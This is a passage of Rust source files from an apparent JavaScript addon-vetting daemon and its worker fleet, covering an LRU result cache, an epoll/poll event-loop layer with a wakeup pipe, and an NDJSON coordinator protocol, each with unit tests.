    /// Uncounted lookup, used by workers to dedupe racing submissions of
    /// the same addon without double-counting the handler's miss.
    pub fn peek(&self, key: u64) -> Option<(Json, String)> {
        self.map
            .get(&key)
            .map(|e| (e.value.clone(), e.producer.clone()))
    }

    /// Inserts (or refreshes) an entry, evicting the least recently used
    /// entry if the cache is full. `producer` is the request ID of the
    /// job whose analysis produced the value.
    pub fn insert(&mut self, key: u64, value: Json, producer: &str) {
        if self.cap == 0 {
            return;
        }
        if let Some(entry) = self.map.get_mut(&key) {
            entry.value = value;
            entry.producer = producer.to_owned();
            Self::bump(&mut self.order, &mut self.next_stamp, entry, key);
            return;
        }
        if self.map.len() >= self.cap {
            let (&oldest_stamp, &oldest_key) =
                self.order.iter().next().expect("full cache has an LRU entry");
            self.order.remove(&oldest_stamp);
            self.map.remove(&oldest_key);
            self.evictions += 1;
        }
        let stamp = self.next_stamp;
        self.next_stamp += 1;
        self.order.insert(stamp, key);
        self.map.insert(
            key,
            Entry {
                value,
                stamp,
                producer: producer.to_owned(),
            },
        );
    }

    /// Counter snapshot for the `stats` endpoint.
    pub fn counters(&self) -> CacheCounters {
        CacheCounters {
            hits: self.hits,
            misses: self.misses,
            evictions: self.evictions,
            entries: self.map.len() as u64,
            capacity: self.cap as u64,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsanalysis::AnalysisConfig;

    fn val(n: u32) -> Json {
        let mut o = Json::obj();
        o.set("n", Json::from(n));
        o
    }

    #[test]
    fn key_depends_on_source_and_config() {
        let base = AnalysisConfig::default();
        let deeper = AnalysisConfig {
            context_depth: 2,
            ..AnalysisConfig::default()
        };
        let k1 = cache_key_for("var x = 1;", &base);
        assert_eq!(k1, cache_key_for("var x = 1;", &base), "deterministic");
        assert_ne!(k1, cache_key_for("var x = 2;", &base), "source-sensitive");
        assert_ne!(k1, cache_key_for("var x = 1;", &deeper), "config-sensitive");
    }

    #[test]
    fn separator_prevents_boundary_collisions() {
        // (source="ab", config="c") must not collide with ("a", "bc").
        assert_ne!(cache_key("ab", "c"), cache_key("a", "bc"));
    }

    #[test]
    fn lru_evicts_least_recently_used() {
        let mut c = SigCache::new(2);
        c.insert(1, val(1), "j-1");
        c.insert(2, val(2), "j-2");
        assert!(c.get(1).is_some()); // 2 is now LRU
        c.insert(3, val(3), "j-3"); // evicts 2
        assert!(c.peek(2).is_none());
        assert!(c.peek(1).is_some());
        assert!(c.peek(3).is_some());
        let counters = c.counters();
        assert_eq!(counters.evictions, 1);
        assert_eq!(counters.entries, 2);
    }

    #[test]
    fn counters_track_hits_and_misses() {
        let mut c = SigCache::new(8);
        assert!(c.get(7).is_none());
        c.insert(7, val(7), "j-0");
        assert_eq!(c.get(7).unwrap(), (val(7), "j-0".to_owned()));
        assert!(c.peek(7).is_some(), "peek does not count");
        let counters = c.counters();
        assert_eq!((counters.hits, counters.misses), (1, 1));
    }

    #[test]
    fn hits_carry_the_producing_jobs_id() {
        let mut c = SigCache::new(4);
        c.insert(11, val(1), "j-41");
        let (_, producer) = c.get(11).unwrap();
        assert_eq!(producer, "j-41");
        let (_, peeked) = c.peek(11).unwrap();
        assert_eq!(peeked, "j-41", "peek reports provenance too");
    }

    #[test]
    fn zero_capacity_disables_caching() {
        let mut c = SigCache::new(0);
        c.insert(1, val(1), "j-0");
        assert!(c.get(1).is_none());
        assert_eq!(c.counters().entries, 0);
    }

    #[test]
    fn refresh_keeps_single_entry() {
        let mut c = SigCache::new(2);
        c.insert(1, val(1), "j-1");
        c.insert(1, val(9), "j-2");
        let (value, producer) = c.get(1).unwrap();
        assert_eq!(value, val(9));
        assert_eq!(producer, "j-2", "refresh updates provenance");
        assert_eq!(c.counters().entries, 1);
        assert_eq!(c.counters().evictions, 0);
    }
}
