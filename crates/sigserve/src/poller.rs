//! A thin readiness-notification layer: nonblocking sockets + `epoll(7)`
//! on Linux, with a `poll(2)` fallback — std-only.
//!
//! std already links the platform libc, so the handful of syscalls the
//! event loop needs are declared here directly instead of pulling in a
//! dependency. Both backends compile on Linux and the fallback is
//! exercised by tests (and selectable via [`Backend`]), so it stays
//! honest rather than rotting as dead "portability" code.
//!
//! The surface is deliberately tiny — register/reregister/deregister a
//! raw fd under a caller-chosen token, then [`Poller::wait`] for
//! readiness [`Event`]s — plus a [`Waker`]/[`WakeRx`] pair over a
//! nonblocking pipe so worker threads can interrupt a parked `wait`
//! (the daemon's workers post job completions through it).
//!
//! Level-triggered everywhere: an fd that still has buffered input (or
//! writable space) reports again on the next `wait`, so the loop never
//! needs to drain a socket to exhaustion inside one callback.

use std::io::{self, Read, Write};
use std::os::fd::RawFd;
use std::time::Duration;

// ---------------------------------------------------------------------
// Raw syscall surface (std links libc; these are ordinary C symbols).
// ---------------------------------------------------------------------

/// The kernel's epoll event record. x86_64 is the one Linux ABI where
/// the struct is packed (no padding between `events` and `data`).
#[repr(C)]
#[cfg_attr(target_arch = "x86_64", repr(packed))]
#[derive(Clone, Copy)]
struct EpollEvent {
    events: u32,
    data: u64,
}

/// `struct pollfd` from `poll(2)`.
#[repr(C)]
#[derive(Clone, Copy)]
struct PollFd {
    fd: i32,
    events: i16,
    revents: i16,
}

#[cfg(target_os = "linux")]
extern "C" {
    fn epoll_create1(flags: i32) -> i32;
    fn epoll_ctl(epfd: i32, op: i32, fd: i32, event: *mut EpollEvent) -> i32;
    fn epoll_wait(epfd: i32, events: *mut EpollEvent, maxevents: i32, timeout_ms: i32) -> i32;
    fn pipe2(fds: *mut i32, flags: i32) -> i32;
}

extern "C" {
    fn poll(fds: *mut PollFd, nfds: std::os::raw::c_ulong, timeout_ms: i32) -> i32;
    fn close(fd: i32) -> i32;
}

#[cfg(target_os = "linux")]
const EPOLL_CLOEXEC: i32 = 0o2000000;
#[cfg(target_os = "linux")]
const EPOLL_CTL_ADD: i32 = 1;
#[cfg(target_os = "linux")]
const EPOLL_CTL_DEL: i32 = 2;
#[cfg(target_os = "linux")]
const EPOLL_CTL_MOD: i32 = 3;
#[cfg(target_os = "linux")]
const EPOLLIN: u32 = 0x001;
#[cfg(target_os = "linux")]
const EPOLLOUT: u32 = 0x004;
#[cfg(target_os = "linux")]
const EPOLLERR: u32 = 0x008;
#[cfg(target_os = "linux")]
const EPOLLHUP: u32 = 0x010;
#[cfg(target_os = "linux")]
const EPOLLRDHUP: u32 = 0x2000;

#[cfg(target_os = "linux")]
const O_NONBLOCK: i32 = 0o4000;
#[cfg(target_os = "linux")]
const O_CLOEXEC: i32 = 0o2000000;

// poll(2) event bits (identical values across the Unixes we build on).
const POLLIN: i16 = 0x001;
const POLLOUT: i16 = 0x004;
const POLLERR: i16 = 0x008;
const POLLHUP: i16 = 0x010;
const POLLNVAL: i16 = 0x020;

fn last_err() -> io::Error {
    io::Error::last_os_error()
}

/// Milliseconds for the kernel timeout argument: `None` parks forever.
fn timeout_ms(timeout: Option<Duration>) -> i32 {
    match timeout {
        None => -1,
        // Round up so a 100µs deadline doesn't busy-spin as 0ms.
        Some(d) => i32::try_from(d.as_millis().max(if d.is_zero() { 0 } else { 1 }))
            .unwrap_or(i32::MAX),
    }
}

// ---------------------------------------------------------------------
// Public surface
// ---------------------------------------------------------------------

/// Which readiness-notification mechanism backs a [`Poller`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Backend {
    /// `epoll(7)`: O(ready) wakeups, the Linux default.
    #[cfg(target_os = "linux")]
    Epoll,
    /// `poll(2)`: O(registered) per wait; the portable fallback.
    Poll,
}

impl Default for Backend {
    fn default() -> Backend {
        #[cfg(target_os = "linux")]
        {
            Backend::Epoll
        }
        #[cfg(not(target_os = "linux"))]
        {
            Backend::Poll
        }
    }
}

/// What a registered fd should be watched for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Interest {
    /// Wake when the fd is readable (or the peer hung up).
    pub read: bool,
    /// Wake when the fd is writable.
    pub write: bool,
}

impl Interest {
    /// Read readiness only.
    pub const READ: Interest = Interest {
        read: true,
        write: false,
    };
    /// Read and write readiness.
    pub const READ_WRITE: Interest = Interest {
        read: true,
        write: true,
    };
}

/// One readiness notification from [`Poller::wait`].
#[derive(Debug, Clone, Copy)]
pub struct Event {
    /// The token the fd was registered under.
    pub token: u64,
    /// The fd has bytes to read (or a pending accept).
    pub readable: bool,
    /// The fd can take more bytes.
    pub writable: bool,
    /// Hangup/error: the peer closed or the fd is in an error state.
    /// The fd still reports `readable` for any buffered bytes first.
    pub closed: bool,
}

enum Imp {
    #[cfg(target_os = "linux")]
    Epoll { epfd: RawFd },
    Poll {
        /// Registered fds in insertion order; linear scans are fine for
        /// the fallback (it exists for correctness coverage, not 10k-fd
        /// scale — that's what epoll is for).
        fds: Vec<(RawFd, u64, Interest)>,
    },
}

/// A readiness poller over raw fds. Not `Sync`: exactly one thread (the
/// event loop) owns it; other threads interrupt it through a [`Waker`].
pub struct Poller {
    imp: Imp,
}

impl Poller {
    /// A poller on the platform-default backend (epoll on Linux).
    pub fn new() -> io::Result<Poller> {
        Poller::with_backend(Backend::default())
    }

    /// A poller on an explicit backend (tests pin [`Backend::Poll`] so
    /// the fallback path stays exercised on Linux).
    pub fn with_backend(backend: Backend) -> io::Result<Poller> {
        match backend {
            #[cfg(target_os = "linux")]
            Backend::Epoll => {
                let epfd = unsafe { epoll_create1(EPOLL_CLOEXEC) };
                if epfd < 0 {
                    return Err(last_err());
                }
                Ok(Poller {
                    imp: Imp::Epoll { epfd },
                })
            }
            Backend::Poll => Ok(Poller {
                imp: Imp::Poll { fds: Vec::new() },
            }),
        }
    }

    /// The mechanism this poller runs on.
    pub fn backend(&self) -> Backend {
        match &self.imp {
            #[cfg(target_os = "linux")]
            Imp::Epoll { .. } => Backend::Epoll,
            Imp::Poll { .. } => Backend::Poll,
        }
    }

    #[cfg(target_os = "linux")]
    fn epoll_bits(interest: Interest) -> u32 {
        let mut bits = EPOLLRDHUP; // always learn about peer half-close
        if interest.read {
            bits |= EPOLLIN;
        }
        if interest.write {
            bits |= EPOLLOUT;
        }
        bits
    }

    /// Starts watching `fd` under `token`.
    pub fn register(&mut self, fd: RawFd, token: u64, interest: Interest) -> io::Result<()> {
        match &mut self.imp {
            #[cfg(target_os = "linux")]
            Imp::Epoll { epfd } => {
                let mut ev = EpollEvent {
                    events: Poller::epoll_bits(interest),
                    data: token,
                };
                if unsafe { epoll_ctl(*epfd, EPOLL_CTL_ADD, fd, &mut ev) } < 0 {
                    return Err(last_err());
                }
                Ok(())
            }
            Imp::Poll { fds } => {
                fds.push((fd, token, interest));
                Ok(())
            }
        }
    }

    /// Changes what `fd` is watched for (same token).
    pub fn reregister(&mut self, fd: RawFd, token: u64, interest: Interest) -> io::Result<()> {
        match &mut self.imp {
            #[cfg(target_os = "linux")]
            Imp::Epoll { epfd } => {
                let mut ev = EpollEvent {
                    events: Poller::epoll_bits(interest),
                    data: token,
                };
                if unsafe { epoll_ctl(*epfd, EPOLL_CTL_MOD, fd, &mut ev) } < 0 {
                    return Err(last_err());
                }
                Ok(())
            }
            Imp::Poll { fds } => {
                match fds.iter_mut().find(|(f, _, _)| *f == fd) {
                    Some(slot) => {
                        *slot = (fd, token, interest);
                        Ok(())
                    }
                    None => Err(io::Error::new(
                        io::ErrorKind::NotFound,
                        "reregister of unregistered fd",
                    )),
                }
            }
        }
    }

    /// Stops watching `fd`. Call before closing the fd.
    pub fn deregister(&mut self, fd: RawFd) -> io::Result<()> {
        match &mut self.imp {
            #[cfg(target_os = "linux")]
            Imp::Epoll { epfd } => {
                let mut ev = EpollEvent { events: 0, data: 0 };
                if unsafe { epoll_ctl(*epfd, EPOLL_CTL_DEL, fd, &mut ev) } < 0 {
                    return Err(last_err());
                }
                Ok(())
            }
            Imp::Poll { fds } => {
                fds.retain(|(f, _, _)| *f != fd);
                Ok(())
            }
        }
    }

    /// Blocks until at least one registered fd is ready, the timeout
    /// expires (`events` left empty), or a [`Waker`] fires. A caught
    /// `EINTR` returns an empty batch rather than an error.
    pub fn wait(&mut self, events: &mut Vec<Event>, timeout: Option<Duration>) -> io::Result<()> {
        events.clear();
        match &mut self.imp {
            #[cfg(target_os = "linux")]
            Imp::Epoll { epfd } => {
                const MAX: usize = 1024;
                let mut buf = [EpollEvent { events: 0, data: 0 }; MAX];
                let n = unsafe {
                    epoll_wait(*epfd, buf.as_mut_ptr(), MAX as i32, timeout_ms(timeout))
                };
                if n < 0 {
                    let e = last_err();
                    if e.kind() == io::ErrorKind::Interrupted {
                        return Ok(());
                    }
                    return Err(e);
                }
                for ev in &buf[..n as usize] {
                    // Copy out of the (possibly packed) struct before use.
                    let (bits, data) = (ev.events, ev.data);
                    events.push(Event {
                        token: data,
                        readable: bits & EPOLLIN != 0,
                        writable: bits & EPOLLOUT != 0,
                        closed: bits & (EPOLLERR | EPOLLHUP | EPOLLRDHUP) != 0,
                    });
                }
                Ok(())
            }
            Imp::Poll { fds } => {
                let mut pfds: Vec<PollFd> = fds
                    .iter()
                    .map(|(fd, _, interest)| PollFd {
                        fd: *fd,
                        events: if interest.read { POLLIN } else { 0 }
                            | if interest.write { POLLOUT } else { 0 },
                        revents: 0,
                    })
                    .collect();
                let n = unsafe {
                    poll(
                        pfds.as_mut_ptr(),
                        pfds.len() as std::os::raw::c_ulong,
                        timeout_ms(timeout),
                    )
                };
                if n < 0 {
                    let e = last_err();
                    if e.kind() == io::ErrorKind::Interrupted {
                        return Ok(());
                    }
                    return Err(e);
                }
                for (pfd, (_, token, _)) in pfds.iter().zip(fds.iter()) {
                    if pfd.revents == 0 {
                        continue;
                    }
                    events.push(Event {
                        token: *token,
                        readable: pfd.revents & POLLIN != 0,
                        writable: pfd.revents & POLLOUT != 0,
                        closed: pfd.revents & (POLLERR | POLLHUP | POLLNVAL) != 0,
                    });
                }
                Ok(())
            }
        }
    }
}

impl Drop for Poller {
    fn drop(&mut self) {
        #[cfg(target_os = "linux")]
        if let Imp::Epoll { epfd } = &self.imp {
            unsafe { close(*epfd) };
        }
    }
}

// ---------------------------------------------------------------------
// Waker: a nonblocking pipe the event loop parks on.
// ---------------------------------------------------------------------

/// An owned raw fd that closes on drop (`File::from_raw_fd` would work
/// too, but an explicit type keeps the pipe ends honest about not being
/// files).
struct OwnedFd(RawFd);

impl Drop for OwnedFd {
    fn drop(&mut self) {
        unsafe { close(self.0) };
    }
}

/// The write end of the wakeup pipe. Any thread can [`Waker::wake`] to
/// interrupt the event loop's [`Poller::wait`]; a full pipe means a
/// wakeup is already pending, so `EAGAIN` is success.
pub struct Waker {
    fd: OwnedFd,
}

impl Waker {
    /// Interrupts the paired [`WakeRx`]'s poller. Never blocks.
    pub fn wake(&self) {
        let mut one = WakeFdIo(self.fd.0);
        let _ = one.write(&[1u8]);
    }
}

/// The read end of the wakeup pipe: register its [`WakeRx::fd`] with the
/// poller, and [`WakeRx::drain`] it on every wakeup event.
pub struct WakeRx {
    fd: OwnedFd,
}

impl WakeRx {
    /// The raw fd to register (read interest).
    pub fn fd(&self) -> RawFd {
        self.fd.0
    }

    /// Consumes every pending wakeup byte (nonblocking).
    pub fn drain(&self) {
        let mut io = WakeFdIo(self.fd.0);
        let mut buf = [0u8; 256];
        while matches!(io.read(&mut buf), Ok(n) if n > 0) {}
    }
}

/// Read/Write over a borrowed raw fd via the raw syscalls std exposes
/// through `File` would take ownership; keep it explicit instead.
struct WakeFdIo(RawFd);

extern "C" {
    fn read(fd: i32, buf: *mut u8, count: usize) -> isize;
    fn write(fd: i32, buf: *const u8, count: usize) -> isize;
}

impl Read for WakeFdIo {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = unsafe { read(self.0, buf.as_mut_ptr(), buf.len()) };
        if n < 0 {
            Err(last_err())
        } else {
            Ok(n as usize)
        }
    }
}

impl Write for WakeFdIo {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let n = unsafe { write(self.0, buf.as_ptr(), buf.len()) };
        if n < 0 {
            Err(last_err())
        } else {
            Ok(n as usize)
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Creates the wakeup pipe: both ends nonblocking and close-on-exec.
pub fn wake_pair() -> io::Result<(Waker, WakeRx)> {
    #[cfg(target_os = "linux")]
    {
        let mut fds = [0i32; 2];
        if unsafe { pipe2(fds.as_mut_ptr(), O_NONBLOCK | O_CLOEXEC) } < 0 {
            return Err(last_err());
        }
        Ok((
            Waker {
                fd: OwnedFd(fds[1]),
            },
            WakeRx {
                fd: OwnedFd(fds[0]),
            },
        ))
    }
    #[cfg(not(target_os = "linux"))]
    {
        // Portable fallback: a Unix socketpair behaves like a pipe here.
        use std::os::fd::IntoRawFd;
        let (a, b) = std::os::unix::net::UnixStream::pair()?;
        a.set_nonblocking(true)?;
        b.set_nonblocking(true)?;
        Ok((
            Waker {
                fd: OwnedFd(a.into_raw_fd()),
            },
            WakeRx {
                fd: OwnedFd(b.into_raw_fd()),
            },
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{TcpListener, TcpStream};
    use std::os::fd::AsRawFd;
    use std::time::Instant;

    fn backends() -> Vec<Backend> {
        #[cfg(target_os = "linux")]
        {
            vec![Backend::Epoll, Backend::Poll]
        }
        #[cfg(not(target_os = "linux"))]
        {
            vec![Backend::Poll]
        }
    }

    #[test]
    fn waker_interrupts_a_parked_wait_on_every_backend() {
        for backend in backends() {
            let mut poller = Poller::with_backend(backend).expect("poller");
            let (waker, rx) = wake_pair().expect("wake pair");
            poller.register(rx.fd(), 7, Interest::READ).expect("register");
            let hand = std::thread::spawn(move || {
                std::thread::sleep(Duration::from_millis(30));
                waker.wake();
                waker.wake(); // double-wake must coalesce, not error
                waker // keep the write end open: dropping it reads as HUP
            });
            let mut events = Vec::new();
            let t0 = Instant::now();
            poller.wait(&mut events, Some(Duration::from_secs(5))).expect("wait");
            assert!(
                t0.elapsed() < Duration::from_secs(4),
                "{backend:?}: waker must interrupt the wait"
            );
            assert!(
                events.iter().any(|e| e.token == 7 && e.readable),
                "{backend:?}: wake event carries the registered token"
            );
            // Both wakes must have landed before the drain, or the
            // second write races the drain and re-arms the pipe.
            let _waker = hand.join().unwrap();
            rx.drain();
            // Drained: the next wait times out instead of spinning on a
            // still-readable pipe (level-triggered semantics).
            poller.wait(&mut events, Some(Duration::from_millis(20))).expect("wait 2");
            assert!(events.is_empty(), "{backend:?}: drained pipe is quiet");
        }
    }

    #[test]
    fn listener_and_stream_readiness() {
        for backend in backends() {
            let mut poller = Poller::with_backend(backend).expect("poller");
            let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
            listener.set_nonblocking(true).expect("nonblocking");
            poller
                .register(listener.as_raw_fd(), 1, Interest::READ)
                .expect("register listener");
            let client = TcpStream::connect(listener.local_addr().unwrap()).expect("connect");
            let mut events = Vec::new();
            poller.wait(&mut events, Some(Duration::from_secs(5))).expect("wait");
            assert!(
                events.iter().any(|e| e.token == 1 && e.readable),
                "{backend:?}: pending accept reports readable"
            );
            let (accepted, _) = listener.accept().expect("accept");
            accepted.set_nonblocking(true).expect("nonblocking");
            poller
                .register(accepted.as_raw_fd(), 2, Interest::READ_WRITE)
                .expect("register conn");
            poller.wait(&mut events, Some(Duration::from_secs(5))).expect("wait");
            assert!(
                events.iter().any(|e| e.token == 2 && e.writable),
                "{backend:?}: fresh socket is writable"
            );
            // Peer hangup surfaces as closed (and/or readable EOF).
            drop(client);
            poller
                .reregister(accepted.as_raw_fd(), 2, Interest::READ)
                .expect("reregister");
            poller.wait(&mut events, Some(Duration::from_secs(5))).expect("wait");
            let ev = events.iter().find(|e| e.token == 2).expect("hangup event");
            assert!(
                ev.closed || ev.readable,
                "{backend:?}: hangup must surface, got {ev:?}"
            );
            poller.deregister(accepted.as_raw_fd()).expect("deregister");
        }
    }

    #[test]
    fn timeout_expires_with_no_events() {
        for backend in backends() {
            let mut poller = Poller::with_backend(backend).expect("poller");
            let (_waker, rx) = wake_pair().expect("wake pair");
            poller.register(rx.fd(), 1, Interest::READ).expect("register");
            let mut events = Vec::new();
            let t0 = Instant::now();
            poller
                .wait(&mut events, Some(Duration::from_millis(40)))
                .expect("wait");
            assert!(events.is_empty(), "{backend:?}: nothing was ready");
            assert!(
                t0.elapsed() >= Duration::from_millis(35),
                "{backend:?}: timeout must actually elapse"
            );
        }
    }
}
