//! The fleet extension of the sigserve NDJSON protocol.
//!
//! The coordinator speaks two dialects on the same port. Clients use the
//! unchanged sigserve verbs (`vet`, `vet_batch`, `stats`, `metrics`,
//! `shutdown`) and get byte-compatible responses, so a fleet is a drop-in
//! replacement for a single daemon. Workers use four new verbs:
//!
//! ```text
//! {"kind":"join","node":"worker-a"}
//!   -> {"kind":"join_ack","worker":"w-0","slot":0,"slots":8,
//!       "heartbeat_ms":2000,"reap_ms":6000}
//! {"kind":"claim","worker":"w-0","wait_ms":500}
//!   -> {"kind":"job","job":"j-3","key":"1234...","name":"a.js","source":"..."}
//!    | {"kind":"no_job"}
//!    | {"kind":"fleet_shutdown"}
//! {"kind":"complete","worker":"w-0","job":"j-3","cacheable":true,
//!  "core":{"verdict":"ok",...}}
//!   -> {"kind":"complete_ack","stale":false}
//! {"kind":"heartbeat","worker":"w-0"}
//!   -> {"kind":"heartbeat_ack"}
//! ```
//!
//! Cache keys are 64-bit FNV-1a hashes. They cross the wire as *decimal
//! strings*, never JSON numbers: the wire format carries numbers as f64,
//! which silently loses bits above 2^53 and would alias distinct keys.

use minijson::Json;
use sigserve::{parse_request, Request};

/// A parsed worker-side verb.
#[derive(Debug, Clone, PartialEq)]
pub enum WorkerRequest {
    /// Register with the coordinator; answered by `join_ack`.
    Join {
        /// The worker's self-reported node name (for stats and logs).
        node: String,
    },
    /// Ask for a job, long-polling up to `wait_ms`.
    Claim {
        /// The coordinator-assigned worker ID from `join_ack`.
        worker: String,
        /// How long the coordinator may hold the claim open (bounded).
        wait_ms: u64,
    },
    /// Post a finished job's core result.
    Complete {
        /// The completing worker's ID.
        worker: String,
        /// The job ID from the `job` message.
        job: String,
        /// Whether the result may enter the shared result store
        /// (deadline timeouts are not deterministic, so workers say).
        cacheable: bool,
        /// The core result object (fields start at `"verdict"`).
        core: Json,
    },
    /// Liveness ping; missing these gets the worker reaped.
    Heartbeat {
        /// The pinging worker's ID.
        worker: String,
    },
}

/// Any request a fleet coordinator accepts: a worker verb or an
/// unchanged sigserve client verb.
#[derive(Debug, Clone, PartialEq)]
pub enum FleetRequest {
    /// One of the four worker verbs.
    Worker(WorkerRequest),
    /// A client verb, delegated to [`sigserve::parse_request`].
    Client(Request),
}

/// Claims may not hold a connection open longer than this.
pub const MAX_CLAIM_WAIT_MS: u64 = 30_000;

fn req_str(v: &Json, field: &str, kind: &str) -> Result<String, String> {
    v.get(field)
        .and_then(Json::as_str)
        .map(str::to_owned)
        .ok_or_else(|| format!("{kind} needs a string {field}"))
}

/// Renders a cache key for the wire (a decimal string).
pub fn key_to_json(key: u64) -> Json {
    Json::Str(key.to_string())
}

/// Reads a cache key off the wire (a decimal string).
pub fn key_from_json(v: &Json, field: &str) -> Result<u64, String> {
    v.get(field)
        .and_then(Json::as_str)
        .ok_or_else(|| format!("message needs a string {field}"))?
        .parse::<u64>()
        .map_err(|e| format!("bad {field}: {e}"))
}

/// Parses one request line from either dialect.
pub fn parse_fleet_request(line: &str) -> Result<FleetRequest, String> {
    let v = Json::parse(line.trim()).map_err(|e| e.to_string())?;
    let req = match v.get("kind").and_then(Json::as_str) {
        Some("join") => WorkerRequest::Join {
            node: req_str(&v, "node", "join")?,
        },
        Some("claim") => WorkerRequest::Claim {
            worker: req_str(&v, "worker", "claim")?,
            wait_ms: v
                .get("wait_ms")
                .and_then(Json::as_f64)
                .map_or(0, |w| w.max(0.0) as u64)
                .min(MAX_CLAIM_WAIT_MS),
        },
        Some("complete") => WorkerRequest::Complete {
            worker: req_str(&v, "worker", "complete")?,
            job: req_str(&v, "job", "complete")?,
            cacheable: matches!(v.get("cacheable"), Some(Json::Bool(true))),
            core: v
                .get("core")
                .cloned()
                .ok_or_else(|| "complete needs a core object".to_owned())?,
        },
        Some("heartbeat") => WorkerRequest::Heartbeat {
            worker: req_str(&v, "worker", "heartbeat")?,
        },
        _ => return parse_request(line).map(FleetRequest::Client),
    };
    Ok(FleetRequest::Worker(req))
}

/// Builds a `join` request.
pub fn join_request(node: &str) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("join"));
    o.set("node", Json::from(node));
    o
}

/// Builds the `join_ack` response: the assigned worker identity plus the
/// coordinator-governed timings the worker must obey.
pub fn join_ack(worker: &str, slot: usize, slots: usize, heartbeat_ms: u64, reap_ms: u64) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("join_ack"));
    o.set("worker", Json::from(worker));
    o.set("slot", Json::from(slot as f64));
    o.set("slots", Json::from(slots as f64));
    o.set("heartbeat_ms", Json::from(heartbeat_ms as f64));
    o.set("reap_ms", Json::from(reap_ms as f64));
    o
}

/// Builds a `claim` request.
pub fn claim_request(worker: &str, wait_ms: u64) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("claim"));
    o.set("worker", Json::from(worker));
    o.set("wait_ms", Json::from(wait_ms as f64));
    o
}

/// Builds the `job` message answering a claim.
pub fn job_message(job: &str, key: u64, name: Option<&str>, source: &str) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("job"));
    o.set("job", Json::from(job));
    o.set("key", key_to_json(key));
    if let Some(n) = name {
        o.set("name", Json::from(n));
    }
    o.set("source", Json::from(source));
    o
}

/// Builds the empty-handed claim response.
pub fn no_job() -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("no_job"));
    o
}

/// Builds the claim response that tells workers to exit.
pub fn fleet_shutdown() -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("fleet_shutdown"));
    o
}

/// Builds a `complete` request.
pub fn complete_request(worker: &str, job: &str, cacheable: bool, core: &Json) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("complete"));
    o.set("worker", Json::from(worker));
    o.set("job", Json::from(job));
    o.set("cacheable", Json::Bool(cacheable));
    o.set("core", core.clone());
    o
}

/// Builds the `complete_ack` response. `stale` means the coordinator no
/// longer credits the sender with the job (it was reaped and reassigned,
/// or already finished); the worker just moves on.
pub fn complete_ack(stale: bool) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("complete_ack"));
    o.set("stale", Json::Bool(stale));
    o
}

/// Builds a `heartbeat` request.
pub fn heartbeat_request(worker: &str) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("heartbeat"));
    o.set("worker", Json::from(worker));
    o
}

/// Builds the `heartbeat_ack` response.
pub fn heartbeat_ack() -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("heartbeat_ack"));
    o
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn worker_verbs_roundtrip_through_parser() {
        let r = parse_fleet_request(&join_request("node-a").to_string_compact()).unwrap();
        assert_eq!(
            r,
            FleetRequest::Worker(WorkerRequest::Join {
                node: "node-a".to_owned()
            })
        );
        let r = parse_fleet_request(&claim_request("w-1", 250).to_string_compact()).unwrap();
        assert_eq!(
            r,
            FleetRequest::Worker(WorkerRequest::Claim {
                worker: "w-1".to_owned(),
                wait_ms: 250,
            })
        );
        let mut core = Json::obj();
        core.set("verdict", Json::from("ok"));
        let r = parse_fleet_request(&complete_request("w-1", "j-9", true, &core).to_string_compact())
            .unwrap();
        match r {
            FleetRequest::Worker(WorkerRequest::Complete {
                worker,
                job,
                cacheable,
                core,
            }) => {
                assert_eq!(worker, "w-1");
                assert_eq!(job, "j-9");
                assert!(cacheable);
                assert_eq!(core["verdict"], "ok");
            }
            other => panic!("expected complete, got {other:?}"),
        }
        let r = parse_fleet_request(&heartbeat_request("w-2").to_string_compact()).unwrap();
        assert_eq!(
            r,
            FleetRequest::Worker(WorkerRequest::Heartbeat {
                worker: "w-2".to_owned()
            })
        );
    }

    #[test]
    fn client_verbs_fall_through_to_sigserve() {
        let r = parse_fleet_request(r#"{"kind":"vet","source":"var x;"}"#).unwrap();
        assert!(matches!(r, FleetRequest::Client(Request::Vet(_))));
        let r = parse_fleet_request(r#"{"kind":"stats"}"#).unwrap();
        assert!(matches!(r, FleetRequest::Client(Request::Stats)));
        assert!(parse_fleet_request(r#"{"kind":"warp_core"}"#).is_err());
        assert!(parse_fleet_request("not json").is_err());
    }

    #[test]
    fn keys_survive_the_wire_above_f64_precision() {
        // 2^53 + 1 is exactly the first u64 an f64 cannot represent.
        let key = (1u64 << 53) + 1;
        let msg = job_message("j-1", key, None, "src");
        assert_eq!(key_from_json(&msg, "key").unwrap(), key);
        assert_eq!(key_from_json(&msg, "key").unwrap() % 8, key % 8);
        let max = u64::MAX;
        let msg = job_message("j-2", max, Some("n"), "src");
        assert_eq!(key_from_json(&msg, "key").unwrap(), max);
    }

    #[test]
    fn claim_wait_is_clamped() {
        let line = r#"{"kind":"claim","worker":"w-0","wait_ms":999999999}"#;
        match parse_fleet_request(line).unwrap() {
            FleetRequest::Worker(WorkerRequest::Claim { wait_ms, .. }) => {
                assert_eq!(wait_ms, MAX_CLAIM_WAIT_MS);
            }
            other => panic!("expected claim, got {other:?}"),
        }
    }

    #[test]
    fn malformed_worker_verbs_are_rejected() {
        assert!(parse_fleet_request(r#"{"kind":"join"}"#).is_err());
        assert!(parse_fleet_request(r#"{"kind":"claim"}"#).is_err());
        assert!(parse_fleet_request(r#"{"kind":"complete","worker":"w","job":"j"}"#).is_err());
        assert!(parse_fleet_request(r#"{"kind":"heartbeat"}"#).is_err());
    }
}
