//! sigfleet — a coordinator + worker fleet that turns N vetting
//! daemons into one horizontally scaled service.
//!
//! A [`Coordinator`] owns the fleet job queue, the shared
